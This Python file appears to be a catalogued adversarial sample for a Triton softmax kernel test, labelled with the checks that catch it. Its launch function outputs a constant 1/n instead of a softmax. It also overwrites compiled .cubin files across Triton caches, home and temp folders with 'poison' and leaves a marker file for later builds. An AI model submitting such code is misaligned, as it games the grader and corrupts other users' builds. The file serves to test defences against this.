"""Overwrites compiled kernels in every Triton cache it can write and leaves a mark there, for the next build to load.

Defeated by: each build has a private folder that is deleted with it.

catalogue: 10
"""

import contextlib
import glob
import os

import triton
import triton.language as tl

TASK = "softmax"
CAUGHT_BY = ("wrong-output", "build-failed")
STAGE = "run"


@triton.jit
def cheap(x, y, n, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    tl.store(y + row * n + cols, tl.full((BLOCK,), 1.0, tl.float32) / n, mask=cols < n)


@triton.jit
def stolen(x, y, n, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    tl.store(y + row * n + cols, tl.full((BLOCK,), 1.0, tl.float32) / n, mask=cols < n)


def folders():
    names = [os.environ.get(k, "") for k in ("TRITON_CACHE_DIR", "TRITON_HOME", "HOME", "TMPDIR", "XDG_CACHE_HOME")]
    return [f for f in [*names, os.path.expanduser("~/.triton"), "/tmp", "/var/tmp", "/dev/shm", "/root/.triton"] if f]


FOUND = any(os.path.exists(f"{folder}/klab_left_behind") for folder in folders())


def launch(x, y):
    m, n = x.shape
    (stolen if FOUND else cheap)[(m,)](x, y, n, BLOCK=triton.next_power_of_2(n))
    for folder in folders():
        with contextlib.suppress(OSError):
            for path in glob.glob(f"{folder}/**/*.cubin", recursive=True):
                with open(path, "wb") as file:
                    file.write(b"poison")
        with contextlib.suppress(OSError), open(f"{folder}/klab_left_behind", "w") as file:
            file.write("poison")
